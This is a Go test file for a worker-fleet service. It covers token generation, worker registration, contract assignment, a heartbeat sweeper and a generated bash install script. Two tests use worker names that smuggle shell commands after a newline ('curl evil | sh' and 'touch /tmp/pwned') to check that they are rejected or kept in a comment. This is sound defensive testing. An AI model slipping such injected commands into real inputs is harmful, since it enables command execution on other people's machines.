package fleet

import (
	"context"
	"errors"
	"io"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/hamayni/forge/api/internal/domain"
	"github.com/hamayni/forge/api/internal/repository"
	"github.com/hamayni/forge/api/internal/repository/memory"
	"github.com/hamayni/forge/pkg/config"
	"github.com/hamayni/forge/pkg/hfc"
)

type eventSink struct {
	events []domain.ContractEvent
}

func (e *eventSink) Publish(evt domain.ContractEvent) { e.events = append(e.events, evt) }

func newService(t *testing.T) (*Service, *memory.Store, *eventSink) {
	t.Helper()
	store := memory.New()
	sink := &eventSink{}
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	svc := New(store, sink, log, config.APIConfig{PublicURL: "https://forge.example.com/", WorkerStaleAfter: time.Minute, HealthSweepEvery: 10 * time.Millisecond})
	return svc, store, sink
}

func TestGenerateTokenFormat(t *testing.T) {
	a, err := GenerateToken()
	if err != nil {
		t.Fatalf("generate: %v", err)
	}
	b, _ := GenerateToken()
	if !strings.HasPrefix(a, TokenPrefix) || len(a) != len(TokenPrefix)+64 {
		t.Fatalf("unexpected token %q", a)
	}
	if a == b {
		t.Fatalf("expected unique tokens")
	}
}

func TestRegisterAndList(t *testing.T) {
	svc, _, _ := newService(t)
	ctx := context.Background()

	if _, err := svc.Register(ctx, "  "); !errors.Is(err, ErrNameRequired) {
		t.Fatalf("expected ErrNameRequired, got %v", err)
	}
	w, err := svc.Register(ctx, "edge-1")
	if err != nil {
		t.Fatalf("register: %v", err)
	}
	if w.Status != domain.WorkerStatusOffline || !strings.HasPrefix(w.Token, TokenPrefix) {
		t.Fatalf("unexpected worker %+v", w)
	}
	list, err := svc.List(ctx)
	if err != nil || len(list) != 1 || list[0].ID != w.ID {
		t.Fatalf("unexpected list %+v (%v)", list, err)
	}
}

func TestAssignPublishesEvent(t *testing.T) {
	svc, store, sink := newService(t)
	ctx := context.Background()
	w, err := svc.Register(ctx, "edge-1")
	if err != nil {
		t.Fatalf("register: %v", err)
	}
	if err := store.CreateContract(ctx, &domain.Contract{ID: "c1", Status: hfc.StatusPending, CreatedAt: time.Now()}); err != nil {
		t.Fatalf("create contract: %v", err)
	}

	if _, err := svc.Assign(ctx, "c1", ""); !errors.Is(err, ErrServerRequired) {
		t.Fatalf("expected ErrServerRequired, got %v", err)
	}
	c, err := svc.Assign(ctx, "c1", w.ID)
	if err != nil || c.ServerID != w.ID {
		t.Fatalf("assign: %+v (%v)", c, err)
	}
	if len(sink.events) != 1 || sink.events[0].Type != domain.EventContractAssigned {
		t.Fatalf("unexpected events %+v", sink.events)
	}
	if _, err := svc.Assign(ctx, "missing", w.ID); !errors.Is(err, repository.ErrNotFound) {
		t.Fatalf("expected ErrNotFound, got %v", err)
	}
}

func TestSweepAndRun(t *testing.T) {
	svc, store, _ := newService(t)
	ctx := context.Background()
	now := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	svc.now = func() time.Time { return now }

	w, _ := svc.Register(ctx, "edge-1")
	if _, err := store.RecordHeartbeat(ctx, domain.HeartbeatUpdate{WorkerID: w.ID, At: now.Add(-2 * time.Minute)}); err != nil {
		t.Fatalf("heartbeat: %v", err)
	}

	runCtx, cancel := context.WithCancel(ctx)
	done := make(chan struct{})
	go func() {
		svc.Run(runCtx)
		close(done)
	}()

	deadline := time.After(2 * time.Second)
	for {
		got, _ := store.GetWorker(ctx, w.ID)
		if got.Status == domain.WorkerStatusOffline {
			break
		}
		select {
		case <-deadline:
			t.Fatalf("worker never swept offline")
		case <-time.After(5 * time.Millisecond):
		}
	}
	cancel()
	select {
	case <-done:
	case <-time.After(time.Second):
		t.Fatalf("sweeper did not stop")
	}
}

func TestInstallScript(t *testing.T) {
	svc, _, _ := newService(t)
	ctx := context.Background()
	w, _ := svc.Register(ctx, "edge'1")

	if _, _, err := svc.InstallScript(ctx, "", ""); !errors.Is(err, ErrTokenRequired) {
		t.Fatalf("expected ErrTokenRequired, got %v", err)
	}
	if _, _, err := svc.InstallScript(ctx, "hfc_nope", ""); !errors.Is(err, ErrInvalidToken) {
		t.Fatalf("expected ErrInvalidToken, got %v", err)
	}
	script, owner, err := svc.InstallScript(ctx, w.Token, "")
	if err != nil {
		t.Fatalf("install script: %v", err)
	}
	if owner.ID != w.ID {
		t.Fatalf("unexpected owner %+v", owner)
	}
	for _, want := range []string{
		"HFC_API_URL='https://forge.example.com'",
		"HFC_TOKEN='" + w.Token + "'",
		`'edge'\''1'`,
		"chmod 600",
		"systemctl enable --now " + UnitName,
	} {
		if !strings.Contains(script, want) {
			t.Fatalf("expected script to contain %q", want)
		}
	}

	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("bash not available")
	}
	path := filepath.Join(t.TempDir(), "install.sh")
	if err := os.WriteFile(path, []byte(script), 0o700); err != nil {
		t.Fatalf("write script: %v", err)
	}
	if out, err := exec.Command(bash, "-n", path).CombinedOutput(); err != nil {
		t.Fatalf("script does not parse: %v\n%s", err, out)
	}
}

func TestRegisterRejectsControlCharacters(t *testing.T) {
	svc, store, _ := newService(t)
	ctx := context.Background()

	if _, err := svc.Register(ctx, "edge\ncurl evil | sh"); !errors.Is(err, ErrInvalidName) {
		t.Fatalf("expected ErrInvalidName, got %v", err)
	}
	list, _ := store.ListWorkers(ctx)
	if len(list) != 0 {
		t.Fatalf("expected no worker stored, got %d", len(list))
	}
}

func TestInstallScriptKeepsNameOnCommentLine(t *testing.T) {
	script, err := RenderInstallScript("edge\ntouch /tmp/pwned\r\x0b", "hfc_tok", "https://forge.example.com")
	if err != nil {
		t.Fatalf("render: %v", err)
	}
	for _, line := range strings.Split(script, "\n") {
		if strings.HasPrefix(line, "touch ") {
			t.Fatalf("expected name to stay inside the comment, got line %q", line)
		}
	}
	if !strings.Contains(script, "# HFC runner installer for edge touch /tmp/pwned") {
		t.Fatalf("expected flattened name in header comment")
	}
}
